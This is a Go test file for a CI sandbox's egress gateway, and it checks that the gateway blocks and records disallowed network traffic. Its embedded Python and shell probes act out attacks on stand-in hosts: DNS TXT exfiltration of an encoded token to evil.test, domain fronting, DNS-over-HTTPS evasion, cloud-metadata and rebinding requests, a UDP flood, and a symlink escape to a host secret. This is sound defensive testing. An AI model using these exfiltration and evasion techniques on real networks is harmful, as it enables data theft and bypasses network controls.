package egress

import (
	"bytes"
	"context"
	"crypto/tls"
	"crypto/x509"
	"fmt"
	"net"
	"net/http"
	"net/netip"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/airlock-ci/airlock/gvisor"
	"github.com/airlock-ci/airlock/internal/leakcheck"
	"github.com/airlock-ci/airlock/internal/testhost"
	"github.com/airlock-ci/airlock/internal/testtool"
	"github.com/airlock-ci/airlock/policies"
	"github.com/airlock-ci/airlock/runner/egress/rules"
)

const testStateBase = "/run/airlock-test-egress"

func TestMain(m *testing.M) {
	gvisor.Dispatch()
	leakcheck.Run(m, testStateBase, "")
}

// upstreamAddr is where the tests' upstream servers listen. The policy
// pins the allowed names to it and allows exactly this /32; 127.0.0.1,
// which a "rebinding" name resolves to, stays refused.
const upstreamAddr = "127.0.0.2"

// recordingResolver is the host-side resolver of the tests: fixed answers,
// and a list of every name it was asked.
type recordingResolver struct {
	mu    sync.Mutex
	asked []string
	names map[string]string
}

func (r *recordingResolver) LookupNetIP(_ context.Context, _, host string) ([]netip.Addr, error) {
	host = strings.TrimSuffix(host, ".")
	r.mu.Lock()
	r.asked = append(r.asked, host)
	r.mu.Unlock()
	if a, ok := r.names[host]; ok {
		return []netip.Addr{netip.MustParseAddr(a)}, nil
	}
	return nil, &net.DNSError{Err: "no such host", Name: host, IsNotFound: true}
}

// sandboxBehind creates a sandbox on eg's namespace with eg's files (the
// job CA in the root's bundle, resolv.conf), the host root, and a
// workspace holding upstream-ca.pem, the upstream's CA. It is destroyed
// when the test ends.
func sandboxBehind(t testing.TB, eg *Egress, upstreamCA []byte, mounts ...gvisor.Mount) *gvisor.Sandbox {
	t.Helper()
	files, err := eg.Files("/")
	if err != nil {
		t.Fatal(err)
	}
	ws := t.TempDir()
	os.Chown(ws, 1000, 1000)
	os.WriteFile(filepath.Join(ws, "upstream-ca.pem"), upstreamCA, 0o644)
	sb, err := gvisor.Create(context.Background(), gvisor.Config{
		Workspace: ws, StateRoot: filepath.Join(testStateBase, filepath.Base(ws)), Limits: gvisor.DefaultLimits(),
		NetNS: eg.NetNS(), Files: files, Mounts: mounts,
	})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { sb.Destroy(context.Background()) })
	return sb
}

// upstreamDialer is the gateway's host-side dialer in these tests: it
// records every address dialled and refuses all but upstreamAddr.
type upstreamDialer struct {
	mu    sync.Mutex
	dials []string
}

func (u *upstreamDialer) dialer() *net.Dialer {
	return &net.Dialer{Timeout: 2 * time.Second, Control: func(_, address string, _ syscall.RawConn) error {
		u.mu.Lock()
		u.dials = append(u.dials, address)
		u.mu.Unlock()
		if !strings.HasPrefix(address, upstreamAddr+":") {
			return fmt.Errorf("test dialer: refusing %s", address)
		}
		return nil
	}}
}

func (u *upstreamDialer) seen() []string {
	u.mu.Lock()
	defer u.mu.Unlock()
	return slices.Clone(u.dials)
}

// startUpstreams serves "hello from HOST/PATH" over plain HTTP and over
// TLS (a certificate for tlsName from caPEM) on upstreamAddr, until the
// test ends.
func startUpstreams(t *testing.T, tlsName string) (httpPort, tlsPort int, caPEM []byte) {
	t.Helper()
	hello := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprintf(w, "hello from %s%s", r.Host, r.URL.Path)
	})
	httpLn := listenUpstream(t)
	up := &http.Server{Handler: hello}
	go up.Serve(httpLn)
	t.Cleanup(func() { up.Close() })
	cert, caPEM := testhost.ServerCert(t, tlsName)
	tlsLn := listenUpstream(t)
	tlsUp := &http.Server{Handler: hello, TLSConfig: &tls.Config{Certificates: []tls.Certificate{cert}}}
	go tlsUp.ServeTLS(tlsLn, "", "")
	t.Cleanup(func() { tlsUp.Close() })
	return httpLn.Addr().(*net.TCPAddr).Port, tlsLn.Addr().(*net.TCPAddr).Port, caPEM
}

func listenUpstream(t *testing.T) net.Listener {
	t.Helper()
	ln, err := net.Listen("tcp4", upstreamAddr+":0")
	if err != nil {
		t.Fatal(err)
	}
	return ln
}

// probe.py runs inside the sandbox: DNS over UDP and TCP by hand, direct
// connections that must fail at once, and a UDP flood at the DNS server.
const probePy = `
import socket, struct, sys, time, errno
gw = sys.argv[1]

def query(name, qtype=1, tcp=False):
    q = struct.pack(">HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0)
    q += b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0" + struct.pack(">HH", qtype, 1)
    if tcp:
        s = socket.create_connection((gw, 53), timeout=3)
        s.sendall(struct.pack(">H", len(q)) + q)
        n = struct.unpack(">H", s.recv(2))[0]
        r = b""
        while len(r) < n:
            r += s.recv(n - len(r))
    else:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(3)
        s.sendto(q, (gw, 53))
        r = s.recv(4096)
    ans = ".".join(str(b) for b in r[-4:]) if struct.unpack(">H", r[6:8])[0] > 0 and qtype == 1 else "-"
    return r[3] & 0xF, ans

rc, _ = query("c2VjcmV0LXRva2Vu.evil.test", qtype=16)
print("exfil-txt", rc)
print("tcp-allowed", *query("up.test", tcp=True))
print("tcp-denied", *query("evil.test", tcp=True))

for fam, addr, port in [(socket.AF_INET, "192.0.2.1", 443), (socket.AF_INET, "169.254.169.254", 80),
                        (socket.AF_INET6, "2001:db8::1", 443), (socket.AF_INET6, "::1", 80)]:
    s = socket.socket(fam, socket.SOCK_STREAM)
    s.settimeout(5)
    t0 = time.monotonic()
    try:
        s.connect((addr, port))
        res = "connected"
    except OSError as e:
        res = errno.errorcode.get(e.errno, str(e)) if e.errno else "timeout"
    print("direct", addr, res, int((time.monotonic() - t0) * 1000))

s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.setblocking(False)
sent = 0
for i in range(20000):
    try:
        s.sendto(bytes([i % 256]) * (i % 700 + 1), (gw, 53))
        sent += 1
    except OSError:
        pass
print("flood-sent", sent)
# The kernel drops what the server's full receive buffer cannot take, a
# query too at worst: ask again, as a resolver does (resolv.conf attempts).
for attempt in range(3):
    try:
        print("after-flood", *query("up.test"))
        break
    except TimeoutError:
        pass
`

// sandboxPath is the PATH of the tests' steps, in which they find their
// clients (curl, python3, node) on the host's root the sandbox sees.
const sandboxPath = "/usr/bin:/bin"

// One job in a real sandbox on the job's own namespaces, with real
// clients inside (curl, python) and upstream servers on loopback: every
// egress claim is attacked and checked against what happened and what
// was recorded.
func TestSandboxEgress(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("needs root")
	}
	testtool.InSandbox(t, testtool.Curl, sandboxPath, "the test's HTTP client in the sandbox")
	testtool.InSandbox(t, testtool.Python3, sandboxPath, "the test's raw DNS and socket client in the sandbox is a Python script")
	nsBefore := leakcheck.NetNamespaces()
	fdsBefore := openFDs()

	p1, p2, caPEM := startUpstreams(t, "tls.up.test")

	resolver := &recordingResolver{names: map[string]string{
		"private.test": "10.0.0.1", "meta.test": "169.254.169.254", "rebind.test": "127.0.0.1",
	}}
	dialer := &upstreamDialer{}
	pol, err := rules.Compile(policies.Egress{
		Allow: []policies.EgressRule{
			{Host: "up.test", Ports: []int{p1}},
			{Host: "tls.up.test", Ports: []int{p2}},
			{Host: "private.test", Ports: []int{p1}},
			{Host: "meta.test", Ports: []int{p1}},
			{Host: "rebind.test", Ports: []int{p1}},
		},
		Resolve:    map[string]string{"up.test": upstreamAddr, "tls.up.test": upstreamAddr},
		AllowCIDRs: []string{upstreamAddr + "/32"},
	}, os.LookupEnv)
	if err != nil {
		t.Fatal(err)
	}
	eg, err := Start(Config{Policy: pol, Resolver: resolver, Dialer: dialer.dialer()})
	if err != nil {
		t.Fatal(err)
	}
	closed := false
	defer func() {
		if !closed {
			eg.Close()
		}
	}()

	ws := t.TempDir()
	os.Chown(ws, 1000, 1000)
	os.WriteFile(filepath.Join(ws, "ca.pem"), caPEM, 0o644)
	os.WriteFile(filepath.Join(ws, "probe.py"), []byte(probePy), 0o644)
	sb, err := gvisor.Create(context.Background(), gvisor.Config{
		Workspace: ws, StateRoot: filepath.Join(testStateBase, filepath.Base(ws)), Limits: gvisor.DefaultLimits(),
		NetNS: eg.NetNS(), Files: []gvisor.File{{Path: "/etc/resolv.conf", Data: eg.ResolvConf()}},
	})
	if err != nil {
		t.Fatal(err)
	}
	gw := eg.GatewayAddr().String()
	script := fmt.Sprintf(`
P1=%d; P2=%d
echo "direct-http $(curl -sS --noproxy '*' --max-time 5 http://up.test:$P1/a)"
echo "proxy-http $(curl -sS --max-time 5 http://up.test:$P1/b)"
echo "proxy-https $(curl -sS --max-time 5 --cacert ca.pem https://tls.up.test:$P2/c)"
echo "direct-https $(curl -sS --noproxy '*' --max-time 5 --cacert ca.pem https://tls.up.test:$P2/d)"
curl -sS --noproxy '*' --max-time 5 http://evil.test/ 2>&1; echo "nxdomain-exit $?"
POOL=$(getent hosts tls.up.test | cut -d' ' -f1)
echo "pool $POOL"
curl -sS --noproxy '*' --max-time 5 --cacert ca.pem --resolve evil.test:$P2:$POOL https://evil.test:$P2/ 2>&1; echo "fronting-exit $?"
curl -sS --noproxy '*' --max-time 5 --doh-url https://dns.evil.test/dns-query http://up.test:$P1/ 2>&1; echo "doh-exit $?"
for n in private meta rebind; do curl -s --max-time 5 -o /dev/null -w "$n-status %%{http_code}\n" http://$n.test:$P1/; done
/usr/bin/python3 probe.py %s
`, p1, p2, gw)
	var out bytes.Buffer
	mark, connects := eg.Mark(), sb.ConnectCount()
	res, err := sb.Exec(context.Background(), gvisor.Step{Args: []string{"/bin/bash", "-c", script}, Env: append(eg.Env(), "PATH="+sandboxPath), Stdout: &out, Stderr: &out, Dir: "/workspace"})
	if err != nil {
		t.Fatal(err)
	}
	// A step's refusals are read from its mark on: this step's are all
	// there (DNS, proxy, direct), the next step's start empty.
	refused := eg.RefusalsSince(mark, sb.ConnectsFrom(connects))
	for _, want := range []string{"evil.test|", "private.test|", "|192.0.2.1|"} {
		if !slices.ContainsFunc(refused, func(d rules.Decision) bool {
			return strings.Contains(d.Name+"|"+d.Address+"|", want) && d.Decision == rules.Denied
		}) {
			t.Errorf("the step's refusals lack %s: %+v", want, refused)
		}
	}
	mark, connects = eg.Mark(), sb.ConnectCount()
	if _, err := sb.Exec(context.Background(), gvisor.Step{Args: []string{"curl", "-sS", "--max-time", "5", "-o", "/dev/null", fmt.Sprintf("http://up.test:%d/", p1)}, Env: append(eg.Env(), "PATH="+sandboxPath)}); err != nil {
		t.Fatal(err)
	}
	if again := eg.RefusalsSince(mark, sb.ConnectsFrom(connects)); len(again) != 0 {
		t.Errorf("an allowed step carries earlier refusals: %+v", again)
	}
	if err := sb.Destroy(context.Background()); err != nil {
		t.Fatal(err)
	}
	rep := eg.Report(sb.Record())
	eg.Close()
	closed = true
	text := out.String()
	t.Logf("in the sandbox (exit %d):\n%s", res.ExitCode, text)
	lines := map[string]string{}
	for _, l := range strings.Split(text, "\n") {
		if k, v, ok := strings.Cut(l, " "); ok {
			lines[k+" "+strings.Fields(v + " x")[0]] = v
			lines[k] = v
		}
	}

	// Allowed fetches work, over every path.
	for k, want := range map[string]string{
		"direct-http": "hello from up.test:" + strconv.Itoa(p1) + "/a", "proxy-http": "hello from up.test:" + strconv.Itoa(p1) + "/b",
		"proxy-https": "hello from tls.up.test:" + strconv.Itoa(p2) + "/c", "direct-https": "hello from tls.up.test:" + strconv.Itoa(p2) + "/d",
	} {
		if lines[k] != want {
			t.Errorf("%s: got %q, want %q", k, lines[k], want)
		}
	}
	// Refusals, each the way the claim says.
	for k, want := range map[string]string{
		"nxdomain-exit": "6", "exfil-txt": "3", "tcp-denied": "3 -", "after-flood": lines["tcp-allowed"],
		"private-status": "403", "meta-status": "403", "rebind-status": "403",
	} {
		if lines[k] != want {
			t.Errorf("%s: got %q, want %q", k, lines[k], want)
		}
	}
	if !strings.HasPrefix(lines["tcp-allowed"], "0 198.19.") {
		t.Errorf("DNS over TCP for an allowed name: %q", lines["tcp-allowed"])
	}
	for _, k := range []string{"fronting-exit", "doh-exit"} {
		if lines[k] == "0" || lines[k] == "" {
			t.Errorf("%s: got %q, want a failure", k, lines[k])
		}
	}
	for _, addr := range []string{"192.0.2.1", "169.254.169.254", "2001:db8::1", "::1"} {
		f := strings.Fields(lines["direct "+addr])
		if len(f) != 3 || f[1] == "connected" || f[1] == "timeout" {
			t.Errorf("direct %s: %q", addr, lines["direct "+addr])
			continue
		}
		if ms, _ := strconv.Atoi(f[2]); ms > 1000 {
			t.Errorf("direct %s took %d ms: it must fail at once", addr, ms)
		}
	}

	// The record: every attempt, with the right decision and rule.
	find := func(pred func(d rules.Decision) bool) *rules.Decision {
		for i := range rep.Decisions {
			if pred(rep.Decisions[i]) {
				return &rep.Decisions[i]
			}
		}
		return nil
	}
	checks := []struct {
		what string
		pred func(d rules.Decision) bool
	}{
		{"allowed direct HTTP with bytes", func(d rules.Decision) bool {
			return d.Protocol == rules.ProtoHTTP && d.Name == "up.test" && d.Decision == rules.Allowed && d.BytesIn > 0 && d.Binary == "/usr/bin/curl"
		}},
		{"allowed TLS with bytes both ways", func(d rules.Decision) bool {
			return d.Protocol == rules.ProtoTLS && d.Decision == rules.Allowed && d.BytesIn > 0 && d.BytesOut > 0
		}},
		{"allowed CONNECT", func(d rules.Decision) bool {
			return d.Protocol == rules.ProtoProxyConnect && d.Name == "tls.up.test" && d.Decision == rules.Allowed && d.BytesIn > 0
		}},
		{"NXDOMAIN for evil.test", func(d rules.Decision) bool {
			return d.Protocol == rules.ProtoDNS && d.Name == "evil.test" && d.Decision == rules.Denied && d.Answer == "NXDOMAIN"
		}},
		{"TXT exfiltration query", func(d rules.Decision) bool {
			return d.Protocol == rules.ProtoDNS && strings.HasPrefix(d.Name, "c2VjcmV0") && d.QueryType == "TXT" && d.Decision == rules.Denied
		}},
		{"DNS over TCP refused", func(d rules.Decision) bool {
			return d.Protocol == rules.ProtoDNS && d.Transport == "tcp" && d.Name == "evil.test" && d.Decision == rules.Denied
		}},
		{"fronting", func(d rules.Decision) bool {
			return d.Rule == "fronting" && d.Name == "tls.up.test" && strings.Contains(d.Reason, "evil.test")
		}},
		{"DoH host refused", func(d rules.Decision) bool { return d.Name == "dns.evil.test" && d.Decision == rules.Denied }},
		{"DNS attributed to the resolving process", func(d rules.Decision) bool {
			return d.Protocol == rules.ProtoDNS && d.Transport == "tcp" && strings.Contains(d.Binary, "python3")
		}},
		{"private address refused", func(d rules.Decision) bool {
			return d.Name == "private.test" && d.Decision == rules.Denied && strings.Contains(d.Rule, "10.0.0.0/8")
		}},
		{"metadata refused", func(d rules.Decision) bool {
			return d.Name == "meta.test" && d.Decision == rules.Denied && strings.Contains(d.Rule, "169.254.0.0/16")
		}},
		{"rebinding refused", func(d rules.Decision) bool {
			return d.Name == "rebind.test" && d.Decision == rules.Denied && strings.Contains(d.Rule, "127.0.0.0/8")
		}},
	}
	for _, addr := range []string{"192.0.2.1", "169.254.169.254", "2001:db8::1", "::1"} {
		checks = append(checks, struct {
			what string
			pred func(d rules.Decision) bool
		}{"direct " + addr, func(d rules.Decision) bool {
			return d.Protocol == rules.ProtoDirect && d.Address == addr && d.Decision == rules.Denied && d.PID != 0 && strings.Contains(d.Binary, "python3")
		}})
	}
	for _, c := range checks {
		if find(c.pred) == nil {
			t.Errorf("no decision: %s", c.what)
		}
	}
	if t.Failed() {
		for _, d := range rep.Decisions {
			t.Logf("%+v", d)
		}
	}
	// Refused names were never asked of anyone; only the names the policy
	// allows reached the host's resolver.
	for _, n := range resolver.asked {
		if n != "private.test" && n != "meta.test" && n != "rebind.test" {
			t.Errorf("the host resolver was asked %q", n)
		}
	}
	for _, d := range dialer.seen() {
		if !strings.HasPrefix(d, upstreamAddr+":") {
			t.Errorf("dialled %s", d)
		}
	}
	// Nothing outlives the job: no namespace, no descriptor.
	waitFor(t, "namespaces to go", func() string {
		var left []string
		for ns := range leakcheck.NetNamespaces() {
			if !nsBefore[ns] {
				left = append(left, ns)
			}
		}
		if len(left) > 0 {
			return fmt.Sprint(left)
		}
		return ""
	})
	waitFor(t, "descriptors to close", func() string {
		if n := openFDs(); n > fdsBefore+4 {
			return fmt.Sprintf("%d open, %d before", n, fdsBefore)
		}
		return ""
	})
}

func openFDs() int {
	ents, _ := os.ReadDir("/proc/self/fd")
	return len(ents)
}

func waitFor(t *testing.T, what string, check func() string) {
	t.Helper()
	var last string
	for i := 0; i < 100; i++ {
		if last = check(); last == "" {
			return
		}
		time.Sleep(50 * time.Millisecond)
	}
	t.Errorf("waiting for %s: %s", what, last)
}

// A secret for an HTTPS host: the gateway terminates TLS for that host
// only (with the job CA, which the sandbox's trust store gets), adds the
// header, and the value is nowhere in the sandbox, not even in the
// upstream's echo of it.
func TestSandboxHTTPSSecret(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("needs root")
	}
	testtool.InSandbox(t, testtool.Curl, sandboxPath, "the test's HTTPS client in the sandbox")
	const value = "Bearer tok-5ecret-9f1c"
	var mu sync.Mutex
	var got []string
	cert, caPEM := testhost.ServerCert(t, "tls.up.test", "plain.up.test")
	ln := listenUpstream(t)
	up := &http.Server{
		Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			mu.Lock()
			got = append(got, r.Host+" "+r.Header.Get("Authorization"))
			mu.Unlock()
			w.Header().Set("X-Echo", r.Header.Get("Authorization"))
			fmt.Fprintf(w, "auth=%s", r.Header.Get("Authorization"))
		}),
		TLSConfig: &tls.Config{Certificates: []tls.Certificate{cert}},
	}
	go up.ServeTLS(ln, "", "")
	defer up.Close()
	port := ln.Addr().(*net.TCPAddr).Port
	roots := x509.NewCertPool()
	roots.AppendCertsFromPEM(caPEM)

	pol, err := rules.Compile(policies.Egress{
		Allow:      []policies.EgressRule{{Host: "tls.up.test", Ports: []int{port}}, {Host: "plain.up.test", Ports: []int{port}}},
		Resolve:    map[string]string{"tls.up.test": upstreamAddr, "plain.up.test": upstreamAddr},
		AllowCIDRs: []string{upstreamAddr + "/32"},
		Secrets:    []policies.Secret{{Host: "tls.up.test", Header: "Authorization", FromEnv: "AIRLOCK_SECRET_UP_TOKEN"}},
	}, func(k string) (string, bool) { return value, k == "AIRLOCK_SECRET_UP_TOKEN" })
	if err != nil {
		t.Fatal(err)
	}
	eg, err := Start(Config{Policy: pol, UpstreamRoots: roots})
	if err != nil {
		t.Fatal(err)
	}
	defer eg.Close()
	// The sandbox trusts the job CA, not the upstream's: plain.up.test
	// (no secret, not intercepted) is checked against the upstream's CA.
	sb := sandboxBehind(t, eg, caPEM)
	script := fmt.Sprintf(`
P=%d
echo "proxied $(curl -sS -D - --max-time 5 https://tls.up.test:$P/a | tr -d '\r' | grep -i -e '^x-echo' -e 'auth=' | tr '\n' ' ')"
echo "direct $(curl -sS --noproxy '*' --max-time 5 --cacert /etc/ssl/certs/ca-certificates.crt https://tls.up.test:$P/b)"
echo "other $(curl -sS --noproxy '*' --max-time 5 --cacert upstream-ca.pem https://plain.up.test:$P/c)"
echo "env-has-secret $(env | grep -c 5ecret)"
echo "files-have-secret $(grep -rls 5ecret /etc/ssl /run /workspace 2>/dev/null | wc -l)"
`, port)
	var out bytes.Buffer
	res, err := sb.Exec(context.Background(), gvisor.Step{Args: []string{"/bin/bash", "-c", script}, Env: append(eg.Env(), "PATH="+sandboxPath), Stdout: &out, Stderr: &out, Dir: "/workspace"})
	if err != nil {
		t.Fatal(err)
	}
	sb.Destroy(context.Background())
	rep := eg.Report(sb.Record())
	text := out.String()
	t.Logf("in the sandbox (exit %d):\n%s", res.ExitCode, text)
	stars := strings.Repeat("*", len(value))
	for _, want := range []string{
		"proxied X-Echo: " + stars + " auth=" + stars,
		"direct auth=" + stars,
		"other auth=\n",
		"env-has-secret 0",
		"files-have-secret 0",
	} {
		if !strings.Contains(text, want) {
			t.Errorf("sandbox output lacks %q", want)
		}
	}
	if strings.Contains(text, "5ecret") {
		t.Error("the secret reached the sandbox")
	}
	mu.Lock()
	defer mu.Unlock()
	want := []string{"tls.up.test:" + strconv.Itoa(port) + " " + value, "tls.up.test:" + strconv.Itoa(port) + " " + value, "plain.up.test:" + strconv.Itoa(port) + " "}
	if strings.Join(got, "|") != strings.Join(want, "|") {
		t.Errorf("upstream saw %q, want %q", got, want)
	}
	var https int
	for _, d := range rep.Decisions {
		if d.Name == "tls.up.test" && d.Decision == rules.Allowed && len(d.SecretsInjected) == 1 {
			https++
		}
		if d.Name == "plain.up.test" && d.Protocol != rules.ProtoTLS && d.Protocol != rules.ProtoDNS {
			t.Errorf("a host without secrets was intercepted: %+v", d)
		}
	}
	if https != 2 {
		t.Errorf("%d decisions with the secret injected, want 2: %+v", https, rep.Decisions)
	}
}

// The system CA bundle is read inside the sandbox's root: an image's
// absolute symlink is resolved in the image, and one that leaves it
// (to a host file) reads nothing of the host.
func TestReadSystemBundle(t *testing.T) {
	host := t.TempDir()
	os.WriteFile(filepath.Join(host, "secret"), []byte("HOST SECRET"), 0o600)
	for _, tc := range []struct {
		name    string
		link    string // what /etc/ssl/certs/ca-certificates.crt is
		want    string
		regular bool
	}{
		{"regular file", "", "ROOTS", true},
		{"absolute symlink inside the image", "/etc/pki/tls/ca-bundle.crt", "PKI ROOTS", false},
		{"relative symlink inside the image", "../../pki/tls/ca-bundle.crt", "PKI ROOTS", false},
		{"symlink to a host file", filepath.Join("..", "..", "..", "..", "..", "..", "..", "..", host, "secret"), "", false},
		{"dangling", "/nowhere", "", false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			root := t.TempDir()
			os.MkdirAll(filepath.Join(root, "etc/ssl/certs"), 0o755)
			os.MkdirAll(filepath.Join(root, "etc/pki/tls"), 0o755)
			os.WriteFile(filepath.Join(root, "etc/pki/tls/ca-bundle.crt"), []byte("PKI ROOTS"), 0o644)
			bundle := filepath.Join(root, systemBundle)
			if tc.link == "" {
				os.WriteFile(bundle, []byte("ROOTS"), 0o644)
			} else {
				os.Symlink(tc.link, bundle)
			}
			got, regular, err := readSystemBundle(root)
			if err != nil || string(got) != tc.want || regular != tc.regular {
				t.Errorf("got %q, regular %v, %v; want %q", got, regular, err, tc.want)
			}
		})
	}
}

// Under egress.mode "audit" a sandboxed client reaches what the rules
// do not name, by the proxy, by name directly and through a CONNECT
// tunnel, and each attempt is recorded as would-deny with the rule that
// would have refused it. What audit must not open stays shut: addresses
// in the deny ranges (metadata, loopback), IP literals instead of names,
// direct connections outside the gateway, and DNS answers other than the
// gateway's own.
func TestSandboxAudit(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("needs root")
	}
	testtool.InSandbox(t, testtool.Curl, sandboxPath, "the test's HTTP client in the sandbox")
	p1, p2, caPEM := startUpstreams(t, "tls.other.test")
	// open.test resolves (on the host, not pinned) into the range the
	// organisation opened for its pinned names: audit must not open it
	// to every name.
	resolver := &recordingResolver{names: map[string]string{"meta.test": "169.254.169.254", "rebind.test": "127.0.0.1", "open.test": upstreamAddr}}
	pol, err := rules.Compile(policies.Egress{
		Mode:       "audit",
		Allow:      []policies.EgressRule{{Host: "up.test", Ports: []int{p1}, Methods: []string{"GET"}}},
		Resolve:    map[string]string{"up.test": upstreamAddr, "other.test": upstreamAddr, "tls.other.test": upstreamAddr},
		AllowCIDRs: []string{upstreamAddr + "/32"},
	}, os.LookupEnv)
	if err != nil {
		t.Fatal(err)
	}
	eg, err := Start(Config{Policy: pol, Resolver: resolver, Dialer: (&upstreamDialer{}).dialer()})
	if err != nil {
		t.Fatal(err)
	}
	defer eg.Close()
	sb := sandboxBehind(t, eg, caPEM)
	script := fmt.Sprintf(`
P1=%d; P2=%d
echo "allowed $(curl -sS --max-time 5 http://up.test:$P1/a)"
echo "post $(curl -sS --max-time 5 -d x http://up.test:$P1/p)"
echo "proxy-http $(curl -sS --max-time 5 http://other.test:$P1/b)"
echo "direct-http $(curl -sS --noproxy '*' --max-time 5 http://other.test:$P1/c)"
echo "connect $(curl -sS --max-time 5 --cacert upstream-ca.pem https://tls.other.test:$P2/d)"
echo "answer $(getent hosts other.test | cut -d' ' -f1)"
for n in meta rebind open; do curl -s --max-time 5 -o /dev/null -w "$n-status %%{http_code}\n" http://$n.test:$P1/; done
curl -s --max-time 5 -o /dev/null -w "ip-literal-status %%{http_code}\n" http://%s:$P1/
curl -sS --noproxy '*' --max-time 5 http://%s:$P1/ >/dev/null 2>&1; echo "direct-ip-exit $?"
`, p1, p2, upstreamAddr, upstreamAddr)
	var out bytes.Buffer
	mark, connects := eg.Mark(), sb.ConnectCount()
	if _, err := sb.Exec(context.Background(), gvisor.Step{Args: []string{"/bin/bash", "-c", script}, Env: append(eg.Env(), "PATH="+sandboxPath), Stdout: &out, Stderr: &out, Dir: "/workspace"}); err != nil {
		t.Fatal(err)
	}
	var block bytes.Buffer
	WriteRefusals(&block, eg.RefusalsSince(mark, sb.ConnectsFrom(connects)))
	if err := sb.Destroy(context.Background()); err != nil {
		t.Fatal(err)
	}
	rep := eg.Report(sb.Record())
	lines := map[string]string{}
	for _, l := range strings.Split(out.String(), "\n") {
		if k, v, ok := strings.Cut(l, " "); ok {
			lines[k] = v
		}
	}
	t.Logf("in the sandbox:\n%s\nthe step's block:\n%s", out.String(), block.String())
	for k, want := range map[string]string{
		"allowed":           fmt.Sprintf("hello from up.test:%d/a", p1),
		"post":              fmt.Sprintf("hello from up.test:%d/p", p1),
		"proxy-http":        fmt.Sprintf("hello from other.test:%d/b", p1),
		"direct-http":       fmt.Sprintf("hello from other.test:%d/c", p1),
		"connect":           fmt.Sprintf("hello from tls.other.test:%d/d", p2),
		"meta-status":       "403",
		"rebind-status":     "403",
		"open-status":       "403",
		"ip-literal-status": "403",
	} {
		if lines[k] != want {
			t.Errorf("%s: got %q, want %q", k, lines[k], want)
		}
	}
	if !strings.HasPrefix(lines["answer"], "198.19.") {
		t.Errorf("DNS answered %q for a name only audit lets through: the gateway's own addresses only", lines["answer"])
	}
	if lines["direct-ip-exit"] == "0" {
		t.Error("a direct connection to an IP address got out under audit")
	}
	if rep.Mode != "audit" || rep.WouldDeny == 0 || rep.Allowed == 0 || rep.Denied == 0 {
		t.Errorf("report: mode %q, %d allowed, %d denied, %d would-deny", rep.Mode, rep.Allowed, rep.Denied, rep.WouldDeny)
	}
	has := func(what string, pred func(d rules.Decision) bool) {
		t.Helper()
		if !slices.ContainsFunc(rep.Decisions, pred) {
			t.Errorf("no decision: %s", what)
		}
	}
	wouldDeny := func(d rules.Decision) bool {
		return d.Decision == rules.WouldDeny && d.Rule != "" && d.Reason != "" && d.Suggest != ""
	}
	has("a POST outside the rule's methods, would-deny by that rule", func(d rules.Decision) bool {
		return wouldDeny(d) && d.Name == "up.test" && d.Method == "POST" && strings.HasPrefix(d.Rule, "egress.allow[0]")
	})
	has("the proxied request, would-deny with method and path", func(d rules.Decision) bool {
		return wouldDeny(d) && d.Protocol == rules.ProtoProxyHTTP && d.Name == "other.test" && d.Method == "GET" && d.Path == "/b" && d.BytesIn > 0
	})
	has("the direct request, would-deny", func(d rules.Decision) bool {
		return wouldDeny(d) && d.Protocol == rules.ProtoHTTP && d.Name == "other.test" && d.Path == "/c"
	})
	has("the name's DNS query, would-deny", func(d rules.Decision) bool {
		return wouldDeny(d) && d.Protocol == rules.ProtoDNS && d.Name == "other.test"
	})
	has("the CONNECT tunnel, would-deny with bytes", func(d rules.Decision) bool {
		return wouldDeny(d) && d.Protocol == rules.ProtoProxyConnect && d.Name == "tls.other.test" && d.Port == p2 && d.BytesIn > 0
	})
	for _, n := range []string{"meta.test", "rebind.test", "open.test"} {
		has(n+" refused by its deny range", func(d rules.Decision) bool {
			return d.Name == n && d.Decision == rules.Denied && strings.Contains(d.Rule, "/")
		})
	}
	has("the IP literal refused", func(d rules.Decision) bool {
		return d.Name == upstreamAddr && d.Decision == rules.Denied
	})
	for _, want := range []string{"refused during this step", "let through by audit during this step", "other.test"} {
		if !strings.Contains(block.String(), want) {
			t.Errorf("the step's block lacks %q:\n%s", want, block.String())
		}
	}
	if t.Failed() {
		for _, d := range rep.Decisions {
			t.Logf("%+v", d)
		}
	}
}
